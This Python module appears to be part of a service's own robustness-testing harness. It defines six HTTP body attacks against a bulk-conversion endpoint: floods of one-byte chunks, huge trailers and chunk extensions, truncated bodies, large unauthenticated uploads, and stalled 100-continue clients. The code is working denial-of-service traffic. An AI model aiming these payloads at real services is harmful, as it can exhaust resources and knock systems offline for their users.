"""Attacks with bodies that a service must not keep, or wait for."""

from __future__ import annotations

from collections.abc import Iterator

from tools.attack.attack import Attack, Means
from tools.attack.sockets import held, sent, side_by_side

_POST = b"POST /convert/bulk HTTP/1.1\r\nHost: x\r\n"
_CHUNKED = _POST + b"Transfer-Encoding: chunked\r\n\r\n"


def _chunks(means: Means) -> None:
    def pieces() -> Iterator[bytes]:
        yield _CHUNKED
        for _ in range(means.count(1000)):
            if means.over():
                return
            yield b"1\r\nx\r\n" * 1000
        yield b"0\r\n\r\n"

    sent(means.target.port, pieces())


def _trailers(means: Means) -> None:
    def pieces() -> Iterator[bytes]:
        yield _CHUNKED + b"1\r\nx\r\n0\r\n"
        for number in range(means.count(1600)):
            if means.over():
                return
            yield b"X-%d: " % number + b"a" * 65536 + b"\r\n"
        yield b"\r\n"

    sent(means.target.port, pieces())


def _extensions(means: Means) -> None:
    def pieces() -> Iterator[bytes]:
        yield _CHUNKED
        for _ in range(means.count(500)):
            if means.over():
                return
            yield b"1;" + b"e" * 65536 + b"\r\nx\r\n"

    sent(means.target.port, pieces())


def _short(means: Means) -> None:
    def client(_number: int) -> None:
        if not means.over():
            sent(means.target.port, [_POST + b"Content-Length: 1000\r\n\r\n" + b"x" * 999], read=False)

    side_by_side(means.count(2000), client)


def _no_key(means: Means) -> None:
    def client(number: int) -> None:
        path = b"/convert/bulk" if number % 2 else b"/no-such-path"
        head = b"POST " + path + b" HTTP/1.1\r\nHost: x\r\nContent-Length: 1048576\r\n\r\n"
        if not means.over():
            sent(means.target.port, [head, b"x" * 1048576])

    side_by_side(means.count(500), client)


def _expect(means: Means) -> None:
    head = _POST + b"Content-Length: 1000\r\nExpect: 100-continue\r\n\r\n"
    clients = held(means.target.port, means.count(300), head)
    for client in clients:
        client.close()


ATTACKS = (
    Attack("chunks", "A body of a million chunks of one byte.", _chunks),
    Attack("trailers", "100 MB of trailers after a chunked body.", _trailers),
    Attack("extensions", "Chunk extensions of 64 KB on each byte.", _extensions),
    Attack("short", "2,000 bodies that end one byte early.", _short),
    Attack("no-key", "500 bodies of 1 MB without a key, half of them to unknown paths.", _no_key),
    Attack("expect", "300 clients that await 100 Continue, and then send nothing.", _expect),
)
